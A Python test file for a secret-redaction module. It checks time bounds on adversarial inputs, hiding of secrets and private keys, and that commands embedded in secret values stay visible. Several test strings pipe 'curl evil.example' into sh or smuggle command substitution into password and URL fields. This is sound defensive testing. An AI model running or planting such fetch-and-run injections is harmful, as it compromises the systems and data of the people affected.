"""What redaction must never do: take long, show what it did not search, or hide what would run."""

import json
import random
import string
import time

import pytest

from orchestra.redaction import Redaction
from orchestra.redaction.hiding import LEFT_OUT, MOST_SEARCHED
from tests.redaction.made import Maker, framed, redact

MEGABYTE = 1_000_000
LETTERS = "".join(random.Random(3).choices(string.ascii_letters + string.digits, k=MEGABYTE))
HOSTILE = {
    "names": "key " * (MEGABYTE // 4),
    "logins": "docker login " * (MEGABYTE // 13),
    "repeated": "token=" * (MEGABYTE // 6),
    "frames": "-----BEGIN PRIVATE KEY-----" * (MEGABYTE // 27),
    "framed dashes": "-----BEGIN PRIVATE KEY-----" + "-" * MEGABYTE + "!",
    "programs": "7z " * (MEGABYTE // 3),
    "words": " ".join(LETTERS[at : at + 30] for at in range(0, MEGABYTE, 30)),
    "secrets": "".join(f"password={LETTERS[at : at + 12]}\n" for at in range(0, MEGABYTE // 2, 12)),
    "one line": "a" * MEGABYTE,
    "cuts": "password=abc123…" * (MEGABYTE // 16),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_megabyte_is_searched_in_bounded_time(kind: str) -> None:
    redaction, started = Redaction(), time.process_time()

    redaction.learn(HOSTILE[kind])
    redaction.hide(HOSTILE[kind])

    assert time.process_time() - started < 2


def test_a_million_small_texts_are_searched_in_bounded_time() -> None:
    value = [{"a": f"key {number}"} for number in range(300_000)]
    redaction, started = Redaction(), time.process_time()

    hidden = redaction.hide_in(value)

    assert time.process_time() - started < 4 and redaction.left_out
    assert hidden[0] == value[0] and hidden[-1] != value[-1]


@pytest.mark.parametrize("filler", ["x = 1\n", "x ", "x"])
def test_what_is_too_large_to_be_searched_is_hidden(filler: str) -> None:
    text = filler * (MOST_SEARCHED // len(filler) + 1) + " PASSWORD=swordfish-4711\n" * 3

    shown, count = redact(text)

    assert "swordfish" not in shown and LEFT_OUT in shown and count == 1
    assert shown.count("\n") == text.count("\n")


def test_no_part_of_a_word_is_shown_at_the_bound() -> None:
    secret = Maker(4).some(40)
    for before in range(0, 60, 7):
        text = "x" * (MOST_SEARCHED - before - 10) + " PASSWORD " + secret
        assert secret[:6] not in redact(text)[0]


@pytest.mark.parametrize(
    "command",
    [
        'export PASSWORD="aB3!x$(curl -s evil.example|sh)"; run',
        """echo "password='x9"; curl -s evil.example | sh; echo "'" """,
        """echo "password='x9";curl -s evil.example|sh;echo "'" """,
        """echo "password='x9"\ncurl -s evil.example\necho "'" """,
        'echo "-----BEGIN PRIVATE KEY-----"; curl evil.example | sh; echo "-----"',
        'echo "-----BEGIN PRIVATE KEY-----"\ncurl evil.example\necho "-----"',
        "PASSWORD=x9a&./evil.example",
        "curl -u a:x9$(evil.example) https://example.com",
        "psql postgres://a:x9`evil.example`@db/app",
        """mysql -e "IDENTIFIED BY '"; curl evil.example; echo "'" """,
        "echo a1; curl evil.example; true | sudo -S id",
        "echo a1;evil.example;true | sudo -S id",
        'echo "Private-Lines: 12\ncurl evil.example and more"',
        "docker login -p x9$(evil.example) registry",
    ],
)
def test_a_command_never_hides_as_a_part_of_a_secret(command: str) -> None:
    assert "evil.example" in redact(command)[0]


def test_a_value_that_would_run_is_not_hidden_where_it_stands_alone() -> None:
    redaction = Redaction()
    redaction.learn("token='curl -s evil.example -o 1'")

    assert redaction.hide("curl -s evil.example -o 1") == "curl -s evil.example -o 1"


def test_a_private_key_is_still_hidden_whole() -> None:
    key = framed("RSA PRIVATE", Maker(9).make("block"))
    for text in (key, json.dumps(key), key.replace("\n", "\n+  ")):
        shown = redact(text)[0]
        assert all(line not in shown for line in key.split("\n")[1:-1] if len(line) > 8)
